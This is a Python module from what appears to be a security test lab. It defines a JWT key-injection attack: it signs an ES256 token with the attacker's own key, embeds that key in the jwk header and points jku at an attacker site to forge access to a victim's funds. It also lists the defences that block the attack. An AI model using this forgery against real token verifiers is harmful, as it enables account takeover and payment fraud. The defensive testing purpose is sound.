"""jwt-embedded-key: ES256 by the attacker's key, named in jwk/jku, unknown kid.

The token carries the key that verifies it. A verifier that trusts jwk/jku/x5u/x5c
headers accepts any signer; keys must come only from the issuer's jwks_uri (FAPI2
§5.4.2; OIDC §10.1; RFC 8725 §3.10).
"""

from __future__ import annotations

from typing import Any

from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.forge import attacker_site, spend_forged, victim_facts
from attacker.forged_jws import sign_with
from attacker.premises import linked_victim
from lab import keys

from .jwt_alg_none import PREMISE


def run(ctx: AttackContext) -> None:
    linked_victim(ctx)
    facts = victim_facts(ctx)
    private = keys.signing_key(keys.ensure_keyset(ctx.config.keys_dir, "attacker", ("ES256",)),
                               "ES256")
    public = {k: private[k] for k in ("kty", "crv", "x", "y")}
    header = {"alg": "ES256", "kid": f"evil-{ctx.run_tag}", "jwk": public,
              "jku": attacker_site(ctx, "/jwks.json")}
    ctx.step("attacker", "signs with its own P-256 key and puts that key in the jwk header")

    def sign(head: dict[str, Any], claims: dict[str, Any]) -> str:
        return sign_with(private, head, claims)

    spend_forged(ctx, facts, sign, header)


ATTACK = Attack(
    id="jwt-embedded-key", attacker="A1", legs=("token", "resource"), victim="prior",
    title="ES256 by the attacker's key, named in `jwk`/`jku`, unknown `kid`",
    blocked_by=("trusted_keys_only",),
    premise=PREMISE + " Signs with its own key.",
    goal="the victim's balances or a payment to mallory", run=run,
    refs=("RFC 8725 §3.10", "FAPI2 §5.4.2", "OIDC §10.1"),
    also_blocked_by={
        "consent_per_account":
            "a forged token names no grant the user consented to, so the per-account check "
            "finds no consented account",
    },
)
